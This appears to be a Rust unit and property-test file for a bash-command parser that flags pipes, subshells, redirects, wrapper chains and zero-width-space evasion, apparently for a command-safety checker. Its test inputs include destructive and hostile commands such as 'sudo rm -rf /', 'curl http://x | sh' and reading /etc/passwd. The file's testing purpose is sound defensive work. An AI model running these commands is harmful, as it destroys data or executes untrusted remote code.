// SPDX-License-Identifier: BUSL-1.1
// Copyright (c) 2026 Alfred Jean LLC

use proptest::prelude::*;

use super::*;

#[test]
fn env_prefix_is_stripped() {
    let parsed = parse_bash_command("PATH=/evil:$PATH sudo rm -rf /");
    assert_eq!(parsed.executable, "sudo");
    assert_eq!(parsed.args, vec!["rm", "-rf", "/"]);
}

#[test]
fn wrapper_chain_is_stripped() {
    let parsed = parse_bash_command("env nice nohup sudo rm -rf /");
    assert_eq!(parsed.executable, "sudo");

    let parsed = parse_bash_command("time command git status");
    assert_eq!(parsed.executable, "git");

    let parsed = parse_bash_command("env -i FOO=bar curl http://x");
    assert_eq!(parsed.executable, "curl");
}

#[test]
fn zero_width_space_defeats_nothing() {
    // "s\u{200B}udo" must not resolve to sudo.
    let parsed = parse_bash_command("s\u{200B}udo rm -rf /");
    assert_ne!(parsed.executable, "sudo");
    assert_eq!(parsed.executable, "s\u{200B}udo");
}

#[test]
fn quoted_args_stay_whole() {
    let parsed = parse_bash_command(r#"git commit -m "a message with spaces""#);
    assert_eq!(parsed.executable, "git");
    assert_eq!(parsed.args, vec!["commit", "-m", "a message with spaces"]);

    let parsed = parse_bash_command("echo 'single | quoted'");
    assert_eq!(parsed.args, vec!["single | quoted"]);
    assert!(!parsed.has_pipe);
}

#[test]
fn escaped_pipe_is_literal() {
    let parsed = parse_bash_command(r"echo a \| b");
    assert!(!parsed.has_pipe);
    assert_eq!(parsed.args, vec!["a", "|", "b"]);
}

#[test]
fn pipe_subshell_redirect_flags() {
    let parsed = parse_bash_command("curl http://x | sh");
    assert!(parsed.has_pipe);
    assert_eq!(parsed.executable, "curl");

    let parsed = parse_bash_command("echo $(cat /etc/passwd)");
    assert!(parsed.has_subshell);

    let parsed = parse_bash_command("echo `id`");
    assert!(parsed.has_subshell);

    let parsed = parse_bash_command("echo hi > /tmp/out");
    assert!(parsed.has_redirect);
}

#[test]
fn path_prefixed_executable_resolves_to_basename() {
    let parsed = parse_bash_command("/usr/bin/sudo whoami");
    assert_eq!(parsed.executable, "sudo");
}

#[test]
fn pipeline_stage_breakdown() {
    let stages = pipeline_stages("cat /etc/hosts | grep local | sh");
    assert_eq!(stages.len(), 3);
    assert_eq!(stages[0].executable, "cat");
    assert_eq!(stages[1].executable, "grep");
    assert_eq!(stages[2].executable, "sh");
    assert!(stages.iter().all(|s| s.has_pipe));
}

#[test]
fn clause_splitting() {
    let clauses = split_clauses("git pull && git push; echo done || echo failed");
    assert_eq!(clauses, vec!["git pull", "git push", "echo done", "echo failed"]);

    // Separators inside quotes don't split.
    let clauses = split_clauses(r#"echo "a && b; c""#);
    assert_eq!(clauses.len(), 1);

    let clauses = split_clauses("one\ntwo");
    assert_eq!(clauses, vec!["one", "two"]);
}

#[test]
fn empty_and_garbage_inputs() {
    assert_eq!(parse_bash_command("").executable, "");
    assert_eq!(parse_bash_command("   ").executable, "");
    assert_eq!(parse_bash_command("FOO=bar").executable, "");
    assert!(split_clauses(";;;").is_empty());
    // Unterminated quote: best-effort, no panic.
    let parsed = parse_bash_command("echo 'unterminated");
    assert_eq!(parsed.executable, "echo");
}

#[test]
fn pathological_lengths_are_bounded() {
    let long = "x".repeat(100_000);
    let parsed = parse_bash_command(&long);
    assert_eq!(parsed.executable, long);

    let many_args = format!("prog {}", "a ".repeat(10_000));
    let parsed = parse_bash_command(&many_args);
    assert_eq!(parsed.executable, "prog");
    assert_eq!(parsed.args.len(), 10_000);
}

proptest! {
    #[test]
    fn parser_never_panics(input in "\\PC{0,300}") {
        let _ = parse_bash_command(&input);
        let _ = pipeline_stages(&input);
        let _ = split_clauses(&input);
    }

    #[test]
    fn quoting_roundtrip_keeps_single_arg(arg in "[a-z &|;<>]{1,40}") {
        let cmd = format!("echo '{arg}'");
        let parsed = parse_bash_command(&cmd);
        prop_assert_eq!(parsed.executable, "echo");
        prop_assert_eq!(parsed.args, vec![arg]);
    }
}
